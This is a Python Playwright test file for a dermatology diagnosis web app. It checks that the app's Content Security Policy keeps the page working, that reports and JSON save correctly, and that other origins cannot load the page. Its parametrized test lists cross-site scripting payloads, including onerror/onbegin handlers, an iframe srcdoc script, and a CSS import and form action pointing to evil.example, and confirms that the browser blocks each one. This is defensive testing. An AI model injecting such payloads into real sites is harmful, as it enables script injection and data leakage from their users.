"""The page's policy in Chromium: the page works under it, and what is injected does not."""

import http.server
import io
import json
import threading

import pytest
from PIL import Image

from dermosan_lib import phantoms

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def tab(chromium, address):
    """A page, one for all tests: each starts a kernel."""
    page = chromium.new_page()
    page.complaints = []
    page.on("console", lambda line: page.complaints.append(line.text) if line.type == "error"
            else None)  # fmt: skip
    page.on("pageerror", lambda error: page.complaints.append(str(error)))
    page.goto(f"{address}diagnose")
    page.wait_for_selector(".widget-upload")
    yield page
    page.close(run_before_unload=True)


def test_a_diagnosis_breaks_no_rule(tab):
    stream = io.BytesIO()
    Image.fromarray(phantoms.draw("mel", seed=4, size_px=512).pixels).save(stream, "JPEG")
    with tab.expect_file_chooser() as chooser:
        tab.get_by_role("button", name="Choose photos").click()
    chooser.value.set_files(
        [{"name": "photo.jpg", "mimeType": "image/jpeg", "buffer": stream.getvalue()}]
    )
    tab.wait_for_selector(".dm-answer .dm-badge")
    tab.get_by_label("Show where the model looked").check()
    tab.wait_for_selector(".dm-figure .dm-heat")
    assert tab.complaints == []
    widths = tab.eval_on_selector_all(
        ".dm-answer .dm-bar", "bars => bars.map(bar => bar.getBoundingClientRect().width)"
    )
    assert min(widths) > 50  # the style sheet arrived
    slider = tab.locator(".dm-opacity .noUi-handle").bounding_box()
    assert slider["width"] == pytest.approx(22, abs=4)  # and so did the widgets' own


def test_report_and_json_are_saved_at_once_and_again_by_the_link(
    tab, chromium, grave_faults, tmp_path
):
    with tab.expect_download() as report:
        tab.get_by_role("button", name="Report to print").click()
    with tab.expect_download() as again:
        tab.get_by_role("link", name="Save dermosan-").click()
    with tab.expect_download() as answer:
        tab.get_by_role("button", name="Download JSON").click()
    names = [one.value.suggested_filename for one in (report, again, answer)]
    assert names[0] == names[1]
    assert names[0].endswith(".html")
    assert names[2].endswith(".json")
    for one, name in zip((report, answer), ("report.html", "answer.json"), strict=True):
        one.value.save_as(tmp_path / name)
    assert tab.complaints == []
    told = json.loads((tmp_path / "answer.json").read_text(encoding="utf-8"))
    assert told["images"][0]["name"] == "photo.jpg"
    page = chromium.new_page()
    complaints = []
    page.on("console", lambda line: complaints.append(line.text))
    page.goto((tmp_path / "report.html").as_uri())
    assert complaints == []
    assert told["model"]["sha256"] in page.inner_text("main")
    assert page.inner_text("h1") in (told["differential"][0]["name"], "Not sure")
    widths = page.eval_on_selector_all("img", "all => all.map(one => one.naturalWidth)")
    assert widths == [512, 512]
    assert grave_faults(page) == []
    complaints.clear()
    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=harm()>')")
    page.wait_for_timeout(200)
    assert any("Content Security Policy" in text for text in complaints)
    for width in (1280, 390):
        page.set_viewport_size({"width": width, "height": 800})
        assert page.evaluate("document.documentElement.scrollWidth") <= width
    page.close()


@pytest.mark.parametrize(
    "markup",
    [
        "<img src=x onerror='window.harmed = 1'>",
        "<svg><animate onbegin='window.harmed = 1' attributeName=x dur=1s></svg>",
        "<iframe srcdoc='<script>parent.harmed = 1</script>'></iframe>",
        "<style>h1, .dm-page { --harm: 1 } @import url(https://evil.example/x.css);</style>",
        "<form action='https://evil.example'><button id=harm>x</button></form>",
    ],
)
def test_what_is_injected_does_nothing(tab, markup):
    tab.complaints.clear()
    tab.evaluate(
        "markup => document.querySelector('.dm-page').insertAdjacentHTML('beforeend', markup)",
        markup,
    )
    if "button" in markup:
        tab.evaluate("document.querySelector('#harm').click()")
    tab.wait_for_timeout(500)
    assert tab.evaluate("window.harmed") is None
    style = "getComputedStyle(document.querySelector('.dm-page')).getPropertyValue('--harm')"
    assert tab.evaluate(style) == ""
    assert "evil.example" not in tab.url
    assert tab.complaints != []  # the browser refused


def test_a_page_elsewhere_neither_shows_the_page_nor_starts_it(chromium, address):
    """Another origin of the same machine asks in every way that a page can."""
    page = f"{address}diagnose"
    html = f"""<img src={page}><iframe src={page}></iframe><script src={page}></script>
      <link rel=stylesheet href={page}><link rel=prefetch href={page}?2>"""

    class Elsewhere(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(html.encode())

        def log_message(self, *_):
            """Quiet."""

    with http.server.HTTPServer(("127.0.0.1", 0), Elsewhere) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        page = chromium.new_page()
        answers = []
        page.on("response", lambda found: answers.append((found.url, found.status)))
        page.on("requestfailed", lambda asked: answers.append((asked.url, 403)))
        page.goto(f"http://localhost:{server.server_port}/")
        page.evaluate(
            "url => fetch(url, {mode: 'no-cors', credentials: 'include'}).catch(() => 0)",
            f"{address}diagnose",
        )
        page.wait_for_timeout(2000)
        server.shutdown()
    ours = [status for url, status in answers if url.startswith(address)]
    assert len(ours) >= 4
    assert set(ours) == {403}, json.dumps(answers)
    page.close()
